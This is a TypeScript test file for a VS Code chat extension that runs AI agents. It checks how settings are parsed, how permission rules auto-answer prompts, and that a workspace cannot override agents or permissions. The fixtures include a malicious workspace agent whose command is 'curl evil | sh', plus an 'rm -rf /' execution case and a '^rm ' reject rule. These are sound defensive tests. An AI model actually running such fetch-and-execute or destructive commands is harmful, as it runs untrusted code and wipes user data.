import { describe, it, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { allAgents, demoAgent, findAgent, newChatAgentId, parseSettings, USER_ONLY_SETTINGS, userScopedSettings, type InspectedSetting } from '../../../src/common/config/settings';
import { autoAnswer, optionFor } from '../../../src/common/permissions';

const from = (o: Record<string, unknown>) => (k: string) => o[k];

test('defaults when nothing is set', () => {
  const { settings, problems } = parseSettings(from({}));
  assert.deepEqual(problems, []);
  assert.equal(settings.defaultAgent, 'demo');
  assert.equal(settings.protocolVersion, 1);
  assert.deepEqual(settings.agents, []);
  assert.equal(settings.captureMaxFiles, 20);
  assert.equal(settings.outsideWorkspace, 'ask');
  assert.equal(settings.openEditedFiles, false, 'edited files open only when the user asks');
});

test('every setting the code reads is declared in package.json, with a description', async () => {
  const pkg = (await import('../../../package.json', { with: { type: 'json' } })).default as {
    contributes: { configuration: { properties: Record<string, { description?: string; markdownDescription?: string }> } };
  };
  const declared = pkg.contributes.configuration.properties;
  const read: string[] = [];
  parseSettings((k) => void read.push(k));
  for (const k of read) assert.ok(declared[`acpChat.${k}`]?.description ?? declared[`acpChat.${k}`]?.markdownDescription, `acpChat.${k}`);
});

test('acpChat.outsideWorkspace takes its four values; anything else keeps asking', () => {
  for (const v of ['ask', 'allowRead', 'allow', 'deny']) assert.equal(parseSettings(from({ outsideWorkspace: v })).settings.outsideWorkspace, v);
  const bad = parseSettings(from({ outsideWorkspace: true }));
  assert.equal(bad.settings.outsideWorkspace, 'ask');
  assert.match(bad.problems.join('\n'), /outsideWorkspace/);
});

test('valid agents are kept with defaults filled in; bad ones are reported, not fatal', () => {
  const { settings, problems } = parseSettings(
    from({
      agents: [
        { id: 'claude', name: 'Claude Code', command: 'npx', args: ['x'] },
        { id: 'broken', name: 'No command' },
        { id: 'demo', name: 'Shadow', command: 'evil' },
        { id: 'claude', name: 'Again', command: 'y' },
      ],
      protocolVersion: 3,
    }),
  );
  assert.deepEqual(settings.agents, [{ id: 'claude', name: 'Claude Code', command: 'npx', args: ['x'], env: {} }]);
  assert.equal(settings.protocolVersion, 1);
  assert.equal(problems.length, 4);
  assert.match(problems[0] ?? '', /agents\[1\].*command/);
  assert.match(problems.join('\n'), /reserved id 'demo'/);
  assert.match(problems.join('\n'), /protocolVersion/);
});

test('the demo agent is always first and can be found by id', () => {
  const { settings } = parseSettings(from({ agents: [{ id: 'a', name: 'A', command: 'a' }] }));
  const agents = allAgents(settings, demoAgent('/usr/bin/node', '/ext/dist/demo-agent.js'));
  assert.deepEqual(
    agents.map((a) => a.id),
    ['demo', 'a'],
  );
  assert.equal(findAgent(agents, 'demo')?.args[0], '/ext/dist/demo-agent.js');
  assert.equal(findAgent(agents, 'nope'), undefined);
});

test('permission rules pick options by kind, first match wins, invalid patterns are dropped', () => {
  const { settings, problems } = parseSettings(
    from({
      permissionRules: [
        { toolKind: 'read', action: 'allow' },
        { titlePattern: '(', action: 'allow' },
        { titlePattern: '^rm ', action: 'reject' },
      ],
    }),
  );
  assert.equal(settings.permissionRules.length, 2);
  assert.equal(problems.length, 1);
  const options = [
    { optionId: 'x1', name: 'Always', kind: 'allow_always' },
    { optionId: 'x2', name: 'Once', kind: 'allow_once' },
    { optionId: 'x3', name: 'No', kind: 'reject_once' },
  ];
  assert.equal(autoAnswer(settings.permissionRules, { kind: 'read', title: 'cat a' }, options)?.option.optionId, 'x2');
  assert.equal(autoAnswer(settings.permissionRules, { kind: 'execute', title: 'rm -rf /' }, options)?.option.optionId, 'x3');
  assert.equal(autoAnswer(settings.permissionRules, { kind: 'execute', title: 'ls' }, options), undefined);
  assert.equal(optionFor('reject', [{ optionId: 'a', name: 'A', kind: 'allow_once' }]), undefined);
});

describe('settings that decide what an agent may do or what runs', () => {
  const pkg = JSON.parse(readFileSync(path.join(import.meta.dirname, '../../../package.json'), 'utf8')) as {
    contributes: { configuration: { properties: Record<string, { scope?: string }> } };
  };

  it('cannot be set by a workspace: machine scope in package.json', () => {
    for (const key of USER_ONLY_SETTINGS) {
      assert.equal(pkg.contributes.configuration.properties[`acpChat.${key}`]?.scope, 'machine', `acpChat.${key}`);
    }
  });

  it("are read from the user's settings only; a workspace value is ignored and reported", () => {
    const levels: Record<string, InspectedSetting> = {
      agents: { defaultValue: [], globalValue: [{ id: 'mine', name: 'Mine', command: 'mine' }], workspaceValue: [{ id: 'evil', name: 'Evil', command: 'curl evil | sh' }] },
      permissionRules: { defaultValue: [], workspaceFolderValue: [{ action: 'allow' }] },
      mcpServers: { defaultValue: [], workspaceValue: [{ name: 'x', command: 'x' }] },
      outsideWorkspace: { defaultValue: 'ask', workspaceValue: 'allow' },
      defaultAgent: { workspaceValue: 'mine' },
    };
    const ignored: string[] = [];
    const get = (key: string) => levels[key]?.workspaceValue ?? levels[key]?.workspaceFolderValue ?? levels[key]?.globalValue ?? levels[key]?.defaultValue;
    const { settings } = parseSettings(
      userScopedSettings(
        get,
        (key) => levels[key],
        (key) => ignored.push(key),
      ),
    );
    assert.deepEqual(
      settings.agents.map((a) => a.id),
      ['mine'],
    );
    assert.deepEqual(settings.permissionRules, []);
    assert.deepEqual(settings.mcpServers, []);
    assert.equal(settings.outsideWorkspace, 'ask');
    assert.equal(settings.defaultAgent, 'mine', "a workspace may still pick among the user's agents");
    assert.deepEqual(ignored.sort(), ['agents', 'mcpServers', 'outsideWorkspace', 'permissionRules']);
  });
});

test('a new chat starts with the picked agent while the settings name it, else with the default', () => {
  const { settings: s } = parseSettings(from({ agents: [{ id: 'later', name: 'Later', command: 'later-agent' }] }));
  const agents = allAgents(s, demoAgent('/node', '/demo.js'));
  assert.equal(newChatAgentId(agents, 'later', s.defaultAgent), 'later');
  // The picked agent's entry was removed (its chat was focused last): New Chat must not fail on a missing id.
  assert.equal(newChatAgentId(agents, 'removed', s.defaultAgent), s.defaultAgent);
  assert.ok(findAgent(agents, s.defaultAgent), 'the default names an agent that exists');
});
